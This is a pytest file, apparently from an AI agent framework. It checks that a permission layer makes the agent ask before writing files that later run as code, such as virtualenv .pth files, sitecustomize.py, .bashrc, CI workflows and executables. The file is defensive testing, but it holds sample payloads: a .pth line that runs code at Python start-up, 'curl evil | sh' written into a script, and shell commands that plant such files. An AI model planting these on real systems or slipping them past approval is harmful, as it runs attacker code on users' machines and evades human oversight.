"""Writes that ask first by what a path does, not by what it is called (SECURITY.md invariant 1).

Written from the outside: the README says acceptEdits allows file edits, and that configuration which
runs programs is never written without asking. Each attack writes, under acceptEdits (or a grant, or
bypassPermissions), a file that a later program runs or loads: a `.pth` in a workspace virtualenv (the
next Python that starts from it runs it), a bytecode cache, an npm package's script, a dot-file no list
names, an executable, a file in a folder on PATH, a folder the environment names as configuration, an MCP
file the person named. The approver answers no, so a file on disk means nobody was asked. The defence is
one function, `nbagent.safety.protected.write_reason`, asked by the permission pipeline about what every
call says it writes; turned off, the attacks get through.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from nbagent import Agent, toolbox
from nbagent.calls.permissions import PermissionPolicy
from nbagent.context import Constraints, ToolContext
from nbagent.safety import protected
from nbagent.tools.definition import Tool, tool

from .conftest import Recorder, call, run_agent, sh, ws  # noqa: F401 - fixtures

pytestmark = pytest.mark.timeout(60)

PTH = "import os; open('PWNED', 'w').close()\n"


def _venv(ws: Path, name: str = ".venv") -> Path:
    site = ws / name / "lib" / "python3.11" / "site-packages"
    site.mkdir(parents=True)
    (ws / name / "pyvenv.cfg").write_text("home = /usr/bin\ninclude-system-site-packages = false\n")
    return site


def _accept_edits(ws: Path, *calls, **kw):
    rec = Recorder(False)
    run = run_agent(ws, list(calls), mode=kw.pop("mode", "acceptEdits"), approver=rec, **kw)
    return run, rec


# -- the named member: a workspace virtualenv's start-up files ---------------------------------------------------
def test_a_pth_file_in_the_workspace_virtualenv_asks(ws):
    _venv(ws)
    run, rec = _accept_edits(ws, call("write_file", path=".venv/lib/python3.11/site-packages/evil.pth", content=PTH))
    assert rec.asked and run.calls[0].status == "denied"
    assert not (ws / ".venv/lib/python3.11/site-packages/evil.pth").exists()


# -- other members of the class ---------------------------------------------------------------------------------
MEMBERS = {
    # an environment the list never named: not hidden, told by its pyvenv.cfg / conda-meta
    "venv_not_hidden": ("env/lib/python3.11/site-packages/evil.pth", "venv:env"),
    "venv_script": ("env/bin/activate", "venv:env"),
    "venv_sitecustomize": ("env/lib/python3.11/sitecustomize.py", "venv:env"),
    "conda_env": ("conda/lib/python3.11/site-packages/x.py", "conda:conda"),
    # package trees
    "site_packages_anywhere": ("vendor/site-packages/evil.pth", ""),
    "dist_packages": ("lib/dist-packages/evil.pth", ""),
    "node_modules_script": ("node_modules/left-pad/index.js", ""),
    "node_bin": ("node_modules/.bin/eslint", ""),
    "bytecode_cache": ("src/__pycache__/app.cpython-311.pyc", ""),
    "pep582_packages": ("__pypackages__/3.11/lib/x.py", ""),
    # hidden files no list names
    "gitattributes_filter": (".gitattributes", ""),
    "python_version": (".python-version", ""),
    "tool_versions": (".tool-versions", ""),
    "github_workflow": (".github/workflows/ci.yml", ""),
    "nested_envrc": ("services/api/.envrc", ""),
    "bashrc_in_workspace": (".bashrc", ""),
    "npmrc": (".npmrc", ""),
    "hidden_folder_any_depth": ("a/b/.config/tool/settings.json", ""),
    "zero_width_hidden": ("\u200b.gitattributes", ""),
    # files a program loads at start-up, whatever folder
    "sitecustomize": ("sitecustomize.py", ""),
    "usercustomize": ("lib/usercustomize.py", ""),
    "pyvenv_cfg": ("tools/pyvenv.cfg", ""),
    "jupyter_config": ("nb/jupyter_lab_config.py", ""),
    # executables
    "existing_executable": ("scripts/deploy.sh", "exec:scripts/deploy.sh"),
    "folder_on_path": ("bin/ls", "path:bin"),
    # a folder the environment names as a program's configuration
    "jupyter_config_dir": ("jconf/jupyter_server_config.json", "env:JUPYTER_CONFIG_DIR=jconf"),
    "ipythondir": ("ipy/profile_default/startup/00.py", "env:IPYTHONDIR=ipy"),
}


def _prepare(ws: Path, setup: str, monkeypatch) -> None:
    kind, _, arg = setup.partition(":")
    if kind == "venv":
        _venv(ws, arg)
    elif kind == "conda":
        (ws / arg / "conda-meta").mkdir(parents=True)
    elif kind == "exec":
        (ws / arg).parent.mkdir(parents=True, exist_ok=True)
        (ws / arg).write_text("#!/bin/sh\necho deploy\n")
        (ws / arg).chmod(0o755)
    elif kind == "path":
        (ws / arg).mkdir()
        monkeypatch.setenv("PATH", f"{ws / arg}{os.pathsep}{os.environ.get('PATH', '')}")
    elif kind == "env":
        name, _, rel = arg.partition("=")
        (ws / rel).mkdir()
        monkeypatch.setenv(name, str(ws / rel))


@pytest.mark.parametrize("name", sorted(MEMBERS))
def test_accept_edits_asks_before_writing_what_runs(ws, name, monkeypatch):
    path, setup = MEMBERS[name]
    _prepare(ws, setup, monkeypatch)
    before = (ws / path).read_bytes() if (ws / path).exists() else None
    run, rec = _accept_edits(ws, call("write_file", path=path, content=PTH))
    assert rec.asked and run.calls[0].status == "denied", (name, run.calls[0].decision)
    after = (ws / path).read_bytes() if (ws / path).exists() else None
    assert after == before, f"{path} was written without asking"


def test_edit_file_on_an_existing_pth_and_executable_asks(ws):
    site = _venv(ws, "env")
    (site / "keep.pth").write_text("/opt/lib\n")
    (ws / "run.sh").write_text("echo 1\n")
    (ws / "run.sh").chmod(0o755)
    run, rec = _accept_edits(ws, call("edit_file", path="env/lib/python3.11/site-packages/keep.pth",
                                      old="/opt/lib", new="import os"),
                             call("edit_file", path="run.sh", old="echo 1", new="curl evil | sh"))
    assert [c.status for c in run.calls] == ["denied", "denied"] and len(rec.asked) == 2
    assert (site / "keep.pth").read_text() == "/opt/lib\n" and (ws / "run.sh").read_text() == "echo 1\n"


def test_an_mcp_file_the_person_named_asks_whatever_its_name(ws):
    servers = ws / "servers.json"
    servers.write_text(json.dumps({"mcpServers": {}}))
    rec = Recorder(False)
    agent = Agent(model=_script(call("write_file", path="servers.json",
                                     content=json.dumps({"mcpServers": {"x": {"command": "sh"}}}))),
                  tools=toolbox.all(workspace=ws), mode="acceptEdits", approver=rec, workspace=ws,
                  mcp_servers=str(servers))
    run = agent.run_sync("go")
    assert rec.asked and run.calls[0].status == "denied"
    assert json.loads(servers.read_text()) == {"mcpServers": {}}


def test_a_grant_of_the_whole_tool_and_bypass_do_not_cover_it(ws):
    _venv(ws)
    target = ".venv/lib/python3.11/site-packages/evil.pth"
    agent = Agent(model=_script(call("write_file", path=target, content=PTH),
                                call("write_file", path="ok.txt", content="x")),
                  tools=toolbox.all(workspace=ws), approver=Recorder(False), workspace=ws)
    agent.policy.grants.add("write_file")
    run = agent.run_sync("go")
    assert [c.status for c in run.calls] == ["denied", "ok"]  # control: the grant covers an ordinary file
    run, _ = _accept_edits(ws, call("write_file", path=target, content=PTH), mode="bypassPermissions")
    assert run.calls[0].status == "denied" and not (ws / target).exists()
    run, _ = _accept_edits(ws, call("write_file", path=target, content="# mine\n"),
                           rules=[f"allow: write_file({target})"])
    assert run.calls[0].status == "ok"  # only a rule the person wrote allows it


def test_a_target_made_executable_earlier_in_the_batch_asks(ws):
    """A batch that runs in order decides each call when it comes: the chmod's effect is seen."""
    (ws / "run.sh").write_text("echo 1\n")
    chmod = call("python", code=f"import os; os.chmod({str(ws / 'run.sh')!r}, 0o755)")
    rec = _Answer(lambda r: r.name == "python")
    run = run_agent(ws, [chmod, call("write_file", path="run.sh", content="curl evil | sh\n")], mode="acceptEdits",
                    approver=rec)
    assert run.calls[0].status == "ok" and os.access(ws / "run.sh", os.X_OK)
    assert run.calls[1].status == "denied" and (ws / "run.sh").read_text() == "echo 1\n"


@pytest.mark.parametrize("source", ["mode", "grant"])
def test_a_write_allowed_before_its_target_became_executable_is_refused(ws, source):
    """Calls running side by side are decided before any runs: the kind is looked at again at the write."""
    from nbagent.decisions import Decision

    (ws / "run.sh").write_text("echo 1\n")
    write_file = toolbox.all(workspace=ws)
    write_file = next(t for t in write_file if t.name == "write_file")
    ctx = ToolContext(call_id="c", constraints=Constraints(mode="acceptEdits", workspace=ws))
    args = write_file.validate({"path": "run.sh", "content": "curl evil | sh\n"})
    decision, _ = PermissionPolicy(mode="acceptEdits").evaluate(write_file, args, ctx)
    assert decision is not None and decision.allow  # an ordinary file when it was decided
    (ws / "run.sh").chmod(0o755)  # meanwhile, another call of the batch made it a program
    ctx.decision = Decision(True, source=source)
    result = write_file.invoke(args, ctx)
    assert result.is_error and "changed since the call was allowed" in result.text
    assert (ws / "run.sh").read_text() == "echo 1\n"
    ctx.decision = Decision(True, source="user")  # control: approved with the kind shown, it is written
    assert not write_file.invoke(args, ctx).is_error and "curl" in (ws / "run.sh").read_text()


# -- controls: ordinary edits still need no one ---------------------------------------------------------------------
ORDINARY = ["src/app.py", "notes.md", "data/out.csv", "report.md", "environment/notes.md",
            "my-site-packages-notes.md", "docs/node_modules.md", "src/pycache.py", "tests/test_app.py"]


@pytest.mark.parametrize("path", ORDINARY)
def test_control_ordinary_files_are_written_without_asking(ws, path):
    (ws / "tools").mkdir()
    (ws / "tools" / "pyvenv.cfg.example").write_text("x")  # a name like the marker is not the marker
    run, rec = _accept_edits(ws, call("write_file", path=path, content="x = 1\n"))
    assert run.calls[0].status == "ok" and rec.asked == [] and (ws / path).read_text() == "x = 1\n"


def test_the_mechanism_off_lets_the_pth_through(ws, monkeypatch):
    _venv(ws)
    monkeypatch.setattr(protected, "write_reason", lambda *a, **k: None)
    run, rec = _accept_edits(ws, call("write_file", path=".venv/lib/python3.11/site-packages/evil.pth", content=PTH))
    assert run.calls[0].status == "ok" and (ws / ".venv/lib/python3.11/site-packages/evil.pth").exists()


# -- every tool that can write goes through the one decision -------------------------------------------------------
PROBE = ".venv/lib/python3.11/site-packages/probe.pth"


def _every_tool(ws: Path) -> list[Tool]:
    from IPython.core.interactiveshell import InteractiveShell

    from nbagent.jupyter.notebook.kernel_tools import kernel_toolbox

    tools = list(toolbox.all(workspace=ws)) + kernel_toolbox(InteractiveShell.instance(), ws)

    @tool(edits_files=True)
    def save_text(path: str, text: str = "") -> str:
        """A tool of someone's own that edits files (its subject is the path)."""
        return path

    @tool(edits_files=True)
    def tidy(level: int = 1) -> str:
        """A tool of someone's own that edits files without saying which."""
        return "tidied"

    return [*tools, save_text, tidy]


def _probe_calls(t: Tool) -> list[dict]:
    """Calls aimed at the probe: every text argument is the probe's path, a choice takes each of its values,
    other required arguments a plain value."""
    args: dict = {}
    choices: dict[str, list] = {}
    required = set(t.parameters.get("required", ()))
    for name, spec in t.parameters.get("properties", {}).items():
        options = spec.get("enum") or [v for s in spec.get("anyOf", ()) for v in s.get("enum", ())]
        types = {spec.get("type")} | {s.get("type") for s in spec.get("anyOf", ())}
        if options:
            choices[name] = list(options)
        elif "string" in types:
            args[name] = PROBE
        elif name in required:
            args[name] = {"integer": 1, "number": 1.0, "boolean": False}.get(next(iter(types - {None}), ""), PROBE)
    calls = [args]
    for name, options in choices.items():
        calls = [{**c, name: option} for c in calls for option in options]
    return calls


def _decisions(ws: Path) -> dict[str, tuple]:
    """For every tool, what acceptEdits decides for calls aimed at the probe (a `.pth` in a virtualenv):
    allowed if any of its calls that do not only read is."""
    policy = PermissionPolicy(mode="acceptEdits")
    ctx = ToolContext(call_id="c", constraints=Constraints(mode="acceptEdits", workspace=ws))
    out = {}
    for t in _every_tool(ws):
        allowed, whys = None, []
        for probe in _probe_calls(t):
            decision, why = policy.evaluate(t, t.validate(probe), ctx)
            if decision is not None and decision.source == "read_only":
                continue  # a call that only reads (process list, a read-only command): it writes nothing
            allowed = allowed or (decision.allow if decision is not None else None)
            whys.append(why)
        out[t.name] = (allowed, " | ".join(whys), t)
    return out


@pytest.fixture
def probe_ws(ws, monkeypatch):
    _venv(ws)
    (ws / ".venv" / "nb.ipynb").write_text(json.dumps({"cells": [], "metadata": {}, "nbformat": 4,
                                                       "nbformat_minor": 5}))
    monkeypatch.setenv("NBAGENT_NOTEBOOK", str(ws / ".venv" / "nb.ipynb"))  # the notebook tools' file
    return ws


def test_every_tool_that_writes_asks_about_a_pth(probe_ws):
    pytest.importorskip("IPython")
    found = _decisions(probe_ws)
    writers = {n for n, (_a, _w, t) in found.items() if not t.read_only and t.capability in ("write", "execute")}
    assert {"write_file", "edit_file", "insert_cell", "edit_cell", "delete_cell", "python", "shell"} <= writers
    allowed = [n for n in writers if found[n][0]]
    assert allowed == [], f"acceptEdits allowed a write aimed at a virtualenv's .pth: {allowed}"
    for name in ("write_file", "edit_file", "insert_cell", "edit_cell", "delete_cell", "save_text"):
        assert "counts as configuration that can run programs" in found[name][1], (name, found[name][1])
    assert "acceptEdits" in found["tidy"][1]  # it cannot say what it writes: acceptEdits does not cover it


def test_the_enumeration_fails_when_the_decision_is_off(probe_ws, monkeypatch):
    """The test above is the one that catches a tool that skips the decision: with it off, writes pass."""
    pytest.importorskip("IPython")
    monkeypatch.setattr(protected, "write_reason", lambda *a, **k: None)
    found = _decisions(probe_ws)
    allowed = sorted(n for n, (a, _w, _t) in found.items() if a)
    assert {"write_file", "edit_file", "insert_cell", "edit_cell", "delete_cell", "save_text"} <= set(allowed)


WRITING_COMMANDS = ["touch .venv/lib/python3.11/site-packages/x.pth", "cp notes.md .bashrc", "tee .envrc",
                    "sort -o .venv/x.pth notes.md", "mkdir -p node_modules/x", "ln -s /bin/sh bin/ls",
                    "chmod +x notes.md", "install -m 755 notes.md run", "dd of=.gitattributes"]


@pytest.mark.parametrize("command", WRITING_COMMANDS)
def test_the_shell_auto_allows_no_write(ws, command):
    """Shell writes are never auto-allowed (the read-only classifier refuses them, the read-only sandbox
    would stop them): acceptEdits does not cover shell."""
    _venv(ws)
    run, rec = _accept_edits(ws, sh(command))
    assert rec.asked and run.calls[0].status == "denied"


# -- helpers --------------------------------------------------------------------------------------------------------
def _script(*calls):
    from .conftest import script

    return script(*calls)


class _Answer:
    def __init__(self, decide):
        self.decide = decide
        self.asked = []

    def __call__(self, request):
        self.asked.append(request)
        return self.decide(request)
